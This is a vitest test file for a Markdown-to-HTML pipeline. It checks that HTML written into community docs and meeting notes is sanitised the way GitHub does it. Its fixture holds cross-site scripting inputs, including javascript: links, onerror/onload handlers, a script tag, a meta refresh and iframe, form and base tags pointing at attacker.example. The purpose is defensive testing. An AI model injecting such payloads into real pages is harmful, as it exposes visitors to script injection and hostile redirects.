import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { satteri } from '@astrojs/markdown-satteri';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { markdownPipeline } from './pipeline.ts';

// The fixture site (tests/fixtures/site): links are judged against its docs, never today's content/.
const root = join(process.cwd(), 'tests/fixtures/site');
const links = {
  root,
  docsDir: 'content/docs',
  fileRoutes: { 'MAINTAINERS.md': '/maintainers/' },
  base: '/community/',
  repository: 'https://github.com/example-org/community',
  branch: 'main',
};
const render = async (source: string, pipeline = markdownPipeline(links)) => {
  const renderer = await satteri(pipeline).createRenderer({ syntaxHighlight: false });
  return (await renderer.render(source, { fileURL: pathToFileURL(join(root, 'content/meetings/office-hours/2027-01-07.md')) })).code;
};

/** Every start tag of the HTML, with its attributes. */
function tags(html: string): { name: string; attrs: Record<string, string> }[] {
  const found: { name: string; attrs: Record<string, string> }[] = [];
  const parser = new Parser({ onopentag: (name, attrs) => found.push({ name, attrs }) });
  parser.write(html);
  parser.end();
  return found;
}

const HOSTILE = `## Minutes

<meta http-equiv="refresh" content="0;url=https://attacker.example/">

Read [the notes](javascript:alert(1)) or <a href=" JaVaScRiPt:alert(1)">these</a>, see <img src="x.png" alt="x" onerror="alert(1)">.

<iframe src="https://attacker.example/"></iframe>

<form action="https://attacker.example/"><input name="q"><button>Go</button></form>

<svg onload="alert(1)"><use href="https://attacker.example/x.svg#a"/></svg>

<div onclick="alert(1)" style="position:fixed;inset:0">
<script>alert(1)</script><object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/">
</div>

<base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/x.css">
`;

describe('HTML written in a Markdown file (a .md doc, a meeting record, a decision)', () => {
  it('keeps no element or attribute that runs code, sends the reader elsewhere, embeds or submits anything', async () => {
    const found = tags(await render(HOSTILE));
    expect(found.map((t) => t.name)).toEqual(['h2', 'a', 'p', 'a', 'a', 'img', 'input', 'p', 'div']);
    for (const { name, attrs } of found) {
      expect(
        Object.keys(attrs).filter((a) => a.startsWith('on') || a === 'style'),
        name,
      ).toEqual([]);
      expect(attrs.href ?? '', name).not.toMatch(/script:/i);
    }
    // GitHub's list keeps an input only as a disabled checkbox (a task list's).
    expect(found.find((t) => t.name === 'input')!.attrs).toEqual({ name: 'user-content-q', disabled: '', type: 'checkbox' });
  });

  it('keeps what GitHub keeps, as written', async () => {
    const allowed = '<details><summary>More</summary>\n\nInside *Markdown*, <kbd>Ctrl</kbd>, H<sub>2</sub>O, <ins>new</ins>.\n\n</details>\n';
    expect(await render(allowed)).toBe(
      '<details><summary>More</summary>\n<p>Inside <em>Markdown</em>, <kbd>Ctrl</kbd>, H<sub>2</sub>O, <ins>new</ins>.</p>\n</details>\n',
    );
  });

  it('keeps align="center" as a class of the stylesheet, which the Content-Security-Policy allows and HTML does not call obsolete', async () => {
    expect(await render('<p align="center"><img src="https://example.org/logo.svg" alt="Logo" align="RIGHT"></p>\n\n<h1 align="justify">X</h1>\n')).toBe(
      '<p class="align-center"><img src="https://example.org/logo.svg" alt="Logo" class="align-right"></p>\n<h1 id="x">X<a class="heading-anchor" aria-hidden="true" tabindex="-1" href="#x">#</a></h1>\n',
    );
  });

  it('drops a style sheet, a title or a text area whole, leaving none of what they hold on the page as text', async () => {
    const html = await render(
      'Before.\n\n<style>\nbody { display: none }\n</style>\n\n<title>Forged title</title> <textarea>typed</textarea> <xmp>x</xmp> <noembed>n</noembed>\n\nAfter <style>p{}</style>.\n',
    );
    expect(html).toBe('<p>Before.</p>\n\n   \n<p>After .</p>\n');
  });

  it("gives an author's id the prefix GitHub gives it, so it never stands for one of the site's, and keeps footnote links leading to their notes", async () => {
    const html = await render('<div id="search" name="x">Mine</div>\n\nA claim[^1].\n\n[^1]: Its source.\n');
    const found = tags(html);
    expect(found.find((t) => t.name === 'div')!.attrs).toEqual({ id: 'user-content-search', name: 'user-content-x' });
    const ids = new Set(found.map((t) => t.attrs.id).filter(Boolean));
    const fragments = found.map((t) => t.attrs.href).filter((h) => h?.startsWith('#'));
    expect(fragments.length).toBeGreaterThan(1);
    for (const href of fragments) expect(ids, href).toContain(href!.slice(1));
  });

  it('changes nothing in Markdown without HTML: headings, links, tables, lists and code come out as the site gave them before', async () => {
    const plain =
      '# Title\n\n## Agenda\n\n- [Charter](../../docs/governance.mdx#values)\n- [Spec](https://github.com/modelpack/model-spec) and <https://example.org>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```yaml\nkey: <value>\n```\n\n1. one\n2. `two`\n';
    const { hastPlugins, ...rest } = markdownPipeline(links);
    const withoutAuthorHtml = hastPlugins.filter((p) => !(typeof p === 'object' && p !== null && 'name' in p && p.name === 'author-html'));
    expect(withoutAuthorHtml.length).toBe(hastPlugins.length - 1);
    expect(await render(plain)).toBe(await render(plain, { ...rest, hastPlugins: withoutAuthorHtml, features: { ...rest.features, rawHtml: false } }));
  });
});
